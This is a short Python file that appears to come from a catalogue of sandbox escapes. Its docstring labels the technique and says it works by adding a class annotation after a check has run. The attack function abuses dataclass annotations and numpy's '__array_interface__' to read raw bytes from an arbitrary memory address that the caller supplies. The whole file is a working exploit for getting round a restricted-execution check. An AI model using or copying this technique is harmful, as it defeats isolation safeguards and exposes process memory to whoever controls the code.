"""Class: class machinery. Source: own find. Escape: an annotation is added behind the check."""

import dataclasses
import numpy as np


class A:
    x: int


def attack(model, tokenizer, address):
    A.__annotations__["__array_interface__"] = dict
    a = dataclasses.dataclass(A)(
        0, {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    )
    return np.array(a).tobytes()
